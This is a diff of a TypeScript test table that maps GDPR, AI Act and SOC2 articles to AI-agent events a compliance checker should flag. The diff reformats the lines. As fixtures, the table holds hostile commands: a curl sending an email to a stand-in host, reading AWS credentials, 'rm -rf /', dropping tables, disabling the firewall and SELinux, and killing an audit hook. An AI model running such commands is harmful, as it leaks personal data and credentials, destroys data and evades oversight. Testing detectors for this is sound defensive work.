@@ -50,7 +50,11 @@ const CASES: readonly (readonly [string, readonly Event[], readonly Event[]])[] 
     [{ action: 'note', reasoning: 'because' }, connector('github', 'approve_pull_request')],
   ],
   ['gdpr art_25', [command('ufw disable')], [command('ufw status')]],
-  ['gdpr art_30', [{ action: 'note', data: { text: mail } }], [{ action: 'note', data: { text: 'ping 10.1.2.3' } }]],
+  [
+    'gdpr art_30',
+    [{ action: 'note', data: { text: mail } }],
+    [{ action: 'note', data: { text: 'ping 10.1.2.3' } }],
+  ],
   [
     'gdpr art_32',
     [
@@ -59,7 +63,11 @@ const CASES: readonly (readonly [string, readonly Event[], readonly Event[]])[] 
     ],
     [command('rm -rf /'), { action: 'note', data: { text: mail } }],
   ],
-  ['gdpr art_33', [command(`curl -d 'mail=${mail}' https://x.example`)], [{ action: 'note', data: { text: mail } }]],
+  [
+    'gdpr art_33',
+    [command(`curl -d 'mail=${mail}' https://x.example`)],
+    [{ action: 'note', data: { text: mail } }],
+  ],
   ['ai_act art_12', [{ action: 'note' }], []],
   ['ai_act art_19', [{ action: 'note' }], []],
   ['ai_act art_9', [query('DROP TABLE x')], [query('SELECT 1')]],
@@ -70,9 +78,21 @@ const CASES: readonly (readonly [string, readonly Event[], readonly Event[]])[] 
     [{ action: 'reject_loan_application' }, { action: 'note', reasoning: 'because' }],
   ],
   ['ai_act art_15', [command('pkill -f audit-hook'), command('setenforce 0')], [command('ls')]],
-  ['ai_act art_26', [{ ...query('DROP TABLE x'), context: { environment: 'production' } }], [query('DROP TABLE x')]],
-  ['ai_act art_73', [{ ...command('rm -rf /'), context: { environment: 'production' } }], [command('rm -rf /')]],
-  ['soc2 art_6', [command('cat ~/.aws/credentials'), { action: 'note', data: { text: secret } }], [command('ls')]],
+  [
+    'ai_act art_26',
+    [{ ...query('DROP TABLE x'), context: { environment: 'production' } }],
+    [query('DROP TABLE x')],
+  ],
+  [
+    'ai_act art_73',
+    [{ ...command('rm -rf /'), context: { environment: 'production' } }],
+    [command('rm -rf /')],
+  ],
+  [
+    'soc2 art_6',
+    [command('cat ~/.aws/credentials'), { action: 'note', data: { text: secret } }],
+    [command('ls')],
+  ],
   ['soc2 art_7', [query('DROP TABLE x'), command('rm -rf /var/log')], [query('SELECT 1')]],
   [
     'soc2 art_8',
